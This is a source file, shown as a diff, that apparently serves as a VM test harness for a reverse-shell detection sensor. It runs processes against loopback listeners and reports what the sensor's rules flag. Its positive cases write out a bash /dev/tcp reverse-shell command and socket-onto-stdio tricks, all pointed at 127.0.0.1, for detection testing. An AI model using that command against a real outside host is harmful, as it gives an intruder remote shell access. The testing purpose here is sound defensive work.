@@ -1,0 +1,204 @@
+/**
+ * The VM tier's guest side: run inside the Debian kernel by the initramfs's /init, from the
+ * package root (/sockeye). It uses the built library exactly as an agent would (dist/), runs
+ * real processes against loopback listeners, and prints what it observed as one JSON line
+ * between two markers on the serial console. It judges nothing: the host-side vitest test
+ * (test/vm/vm.test.ts) asserts on the JSON, so a wrong observation fails there, visibly.
+ */
+import { spawn } from "node:child_process";
+import { readFileSync } from "node:fs";
+import net from "node:net";
+import os from "node:os";
+import {
+  Engine,
+  ProcessTable,
+  builtinRules,
+  loadBuiltinElasticRules,
+  openSensor,
+  probe,
+} from "./dist/index.js";
+
+const BEGIN = "===SOCKEYE-VM-RESULTS-BEGIN===";
+const END = "===SOCKEYE-VM-RESULTS-END===";
+const HELPER = "/usr/local/bin/sockhelper";
+const BASH = "/bin/bash";
+// TCG is slow: give the reader thread time to deliver what the kernel already wrote.
+const SETTLE_MS = Number(process.env.SOCKEYE_VM_SETTLE_MS ?? 800);
+
+const uptime = () => Number(readFileSync("/proc/uptime", "utf8").split(" ")[0]);
+const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
+
+const out = {
+  kernel: os.release(),
+  node: process.version,
+  lsm: readOr("/sys/kernel/security/lsm"),
+  cmdline: readOr("/proc/cmdline").trim(),
+  uptimeAtEntry: uptime(),
+  probe: null,
+  programs: [],
+  cases: [],
+  warnings: [],
+  counters: null,
+  stats: null,
+  error: null,
+  durationMs: 0,
+};
+
+function readOr(path) {
+  try {
+    return readFileSync(path, "utf8");
+  } catch {
+    return null; // securityfs is mounted by the sensor, later; read again after openSensor
+  }
+}
+
+/** A loopback listener that tells each caller "exit" and hangs up, so shells end by themselves. */
+async function catcher(path) {
+  const sockets = new Set();
+  const server = net.createServer((s) => {
+    sockets.add(s);
+    s.on("error", () => {});
+    s.end("exit\n");
+  });
+  await new Promise((resolve) => (path ? server.listen(path, resolve) : server.listen(0, "127.0.0.1", resolve)));
+  return {
+    port: path ? null : server.address().port,
+    close: () => new Promise((resolve) => {
+      for (const s of sockets) s.destroy();
+      server.close(() => resolve());
+    }),
+  };
+}
+
+/** Runs a command to completion with a kill timer; stdio are pipes (not sockets). */
+function run(cmd, args, timeoutMs = 20_000) {
+  return new Promise((resolve) => {
+    const child = spawn(cmd, args, { stdio: ["pipe", "pipe", "pipe"] });
+    let stderr = "";
+    child.stdout.on("data", () => {});
+    child.stderr.on("data", (d) => (stderr += d));
+    child.on("error", (e) => (stderr += String(e)));
+    child.stdin.end();
+    const timer = setTimeout(() => child.kill("SIGKILL"), timeoutMs);
+    // 'exit', not 'close': a shell's grandchildren may keep the pipes open.
+    child.on("exit", (code, signal) => {
+      clearTimeout(timer);
+      child.stdout.destroy();
+      child.stderr.destroy();
+      resolve({ pid: child.pid ?? -1, status: code, signal, stderr: stderr.slice(0, 2000) });
+    });
+  });
+}
+
+/** The fields the host asserts on, out of a full ECS finding. */
+function summarize(f) {
+  const ev = f.sockeye?.event ?? {};
+  return {
+    ruleId: f.rule.id,
+    ruleName: f.rule.name,
+    processName: f.process?.name,
+    processPid: f.process?.pid,
+    processArgs: f.process?.args,
+    processExecutable: f.process?.executable,
+    parentName: f.process?.parent?.name,
+    finding: f.finding ?? null,
+    destination: f.destination ?? null,
+    eventKind: ev.kind,
+    source: ev.source ?? null,
+    syscall: ev.syscall ?? null,
+    filename: ev.filename ?? null,
+  };
+}
+
+async function main() {
+  const t0 = Date.now();
+  out.probe = probe();
+  // The next candidate must stand on its own too: with the LSM program skipped, fentry.
+  out.probeWithoutLsm = probe({ skipCandidates: ["lsm/socket_connect"] });
+
+  const sensor = await openSensor();
+  out.programs = sensor.programs;
+  out.features = sensor.features;
+  out.lsm = readOr("/sys/kernel/security/lsm");
+  const processes = new ProcessTable();
+  processes.seedFromProc();
+  const engine = new Engine({
+    rules: [...builtinRules(), ...loadBuiltinElasticRules()],
+    processes,
+    logger: { warn: (message, details) => out.warnings.push({ message, ...details }) },
+  });
+  const findings = [];
+  const execs = [];
+  const connects = [];
+  sensor.subscribe((events) => {
+    for (const e of events) {
+      if (e.kind === "exec") execs.push({ pid: e.task.pid, filename: e.filename, args: e.args });
+      if (e.kind === "connect")
+        connects.push({ pid: e.task.pid, comm: e.task.comm, fd: e.fd, family: e.family, source: e.source, remote: e.remote, unixPath: e.unixPath });
+      for (const f of engine.handle(e)) findings.push(f);
+    }
+  });
+
+  /**
+   * One case: a fresh listener, one command built with its port, and every finding (of any
+   * rule) that arrives while it runs. Negatives are judged on that whole window.
+   */
+  async function scenario(name, expect, build, unixPath) {
+    const l = await catcher(unixPath);
+    const before = findings.length;
+    const execBefore = execs.length;
+    const connectBefore = connects.length;
+    const started = Date.now();
+    const [cmd, ...args] = build(l.port);
+    const r = await run(cmd, args);
+    await sleep(SETTLE_MS);
+    await l.close();
+    out.cases.push({
+      name,
+      expect,
+      port: l.port,
+      command: [cmd, ...args],
+      status: r.status,
+      signal: r.signal,
+      stderr: r.stderr,
+      durationMs: Date.now() - started,
+      findings: findings.slice(before).map(summarize),
+      execs: execs.slice(execBefore).map((e) => ({ filename: e.filename, args: e.args })),
+      connects: connects.slice(connectBefore),
+    });
+  }
+
+  const ip = "127.0.0.1";
+  // Positives.
+  await scenario("connect-fd0", "TRC-101", (p) => [HELPER, "connect-fd0", ip, String(p)]);
+  await scenario("dup2-fd1", "TRC-101", (p) => [HELPER, "dup2", ip, String(p), "1"]);
+  await scenario("dup3-fd0", "TRC-101", (p) => [HELPER, "dup3", ip, String(p), "0"]);
+  // From bash, and not bash's last command: bash would exec setsid in its own pid and the
+  // parent would then be node, not a shell.
+  await scenario("setsid-bash-dev-tcp", "259be2d8-3b1a-4c2c-a0eb-0c8e77f35e39", (p) => [
+    BASH,
+    "-c",
+    `setsid bash -c 'bash -i >& /dev/tcp/${ip}/${p} 0>&1'; true`,
+  ]);
+  // Negatives: each must give no finding at all.
+  await scenario("socket-onto-fd5", "none", (p) => [HELPER, "dup2", ip, String(p), "5"]);
+  await scenario("file-onto-fd1", "none", () => [HELPER, "file-dup2", "/sockeye/package.json", "1"]);
+  await scenario("connect-fd3", "none", (p) => [HELPER, "connect-fd3", ip, String(p)]);
+  await scenario("setsid-sleep", "none", () => [BASH, "-c", "setsid sleep 0; true"]);
+  // AF_UNIX on fd 0: the connect hook sees it (and reads sun_path), TRC-101 stays silent.
+  await scenario("unix-fd0", "none", () => [HELPER, "unix-fd0", "/tmp/sockeye-vm.sock"], "/tmp/sockeye-vm.sock");
+  await scenario("nohup-no-dev-tcp", "none", () => [BASH, "-c", "nohup true >/dev/null 2>&1; true"]);
+
+  out.counters = sensor.counters();
+  sensor.close();
+  out.stats = { sensor: sensor.stats(), engine: engine.stats() };
+  out.durationMs = Date.now() - t0;
+}
+
+try {
+  await main();
+} catch (err) {
+  out.error = { message: err?.message ?? String(err), code: err?.code ?? null };
+}
+out.uptimeAtExit = uptime();
+process.stdout.write(`\n${BEGIN}\n${JSON.stringify(out)}\n${END}\n`);
